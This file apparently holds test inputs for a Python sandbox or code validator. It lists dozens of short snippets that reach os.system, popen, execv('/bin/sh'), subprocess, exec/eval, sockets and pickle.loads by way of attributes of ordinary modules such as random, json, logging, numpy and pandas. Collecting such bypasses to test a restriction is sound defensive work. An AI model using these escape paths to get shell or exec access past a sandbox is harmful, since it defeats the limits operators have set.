import random
random._os.system("id")
# ---
from random import _os
_os.system("id")
# ---
from random import _os as helper
helper.popen("id")
# ---
import re
re.enum.sys.modules["os"].system("id")
# ---
import platform
platform.os.popen("id")
# ---
import numpy as np
np.f2py.os.system("id")
# ---
import tempfile as t
t._os.execv("/bin/sh", ["sh"])
# ---
import shutil
shutil.os.system("id")
# ---
from glob import os
os.system("id")
# ---
from pathlib import os as o
o.execl("/bin/sh", "sh")
# ---
import logging
logging.os.popen("id")
# ---
import json
json.codecs.builtins.exec("1")
# ---
import codecs
codecs.builtins.eval("1")
# ---
import collections
collections._sys.modules["os"].system("id")
# ---
import statistics
statistics.sys.modules["os"]
# ---
import dataclasses
dataclasses.sys.modules["posix"]
# ---
from dataclasses import builtins as b
b.exec("1")
# ---
import typing
typing.sys._getframe(0)
# ---
import asyncio
asyncio.base_events.subprocess.run("id")
# ---
import asyncio
asyncio.events.socket.socket()
# ---
import asyncio.unix_events as u
u.os.fork()
# ---
import threading
threading._sys.modules
# ---
import tempfile
s = tempfile._shutil
s.os.system("id")
# ---
import csv, io
csv.io.os
csv.re.enum.bltns.eval("1")
# ---
import enum
enum.bltns.eval("1")
# ---
import argparse
argparse._os.system("id")
# ---
import unittest
unittest.util.sys
unittest.main.importlib
# ---
import unittest.mock as m
m.pkgutil.get_data
# ---
import logging.handlers
logging.handlers.socket.socket()
# ---
import logging.handlers as h
h.pickle.loads(b"")
# ---
from logging.handlers import socket
# ---
import inspect
inspect.importlib.import_module("os")
# ---
import inspect as i
i.os.system("id")
# ---
from inspect import builtins, sys
builtins.exec("1")
# ---
import ast
ast.sys.modules
# ---
import zipfile
zipfile.importlib.util
# ---
import gzip
gzip.builtins.exec("1")
# ---
import bz2
bz2._builtin_open, bz2.os.system("id")
# ---
import uuid
uuid.os.popen("id")
# ---
import secrets, random
getattr(random, "_os").system("id")
# ---
import xml.sax as s
s.os.system("id")
# ---
import turtle
turtle.inspect.os.system("id")
# ---
import fileinput as f
f.os.system("id")
# ---
import heapq, linecache
linecache.os.system("id")
# ---
import traceback
traceback.linecache.os.system("id")
# ---
import warnings
warnings.sys.modules
# ---
import pprint
pprint._sys.modules
# ---
import pandas as pd
pd.io.common.os.system("id")
# ---
import pandas as pd
pd.compat.pickle_compat.pkl.loads(b"")
# ---
import numpy as np
np.testing._private.utils.os.system("id")
# ---
import numpy as np
np.os.system("id")
# ---
import matplotlib
matplotlib.os.system("id")
# ---
import matplotlib.cbook as c
c.subprocess.run("id")
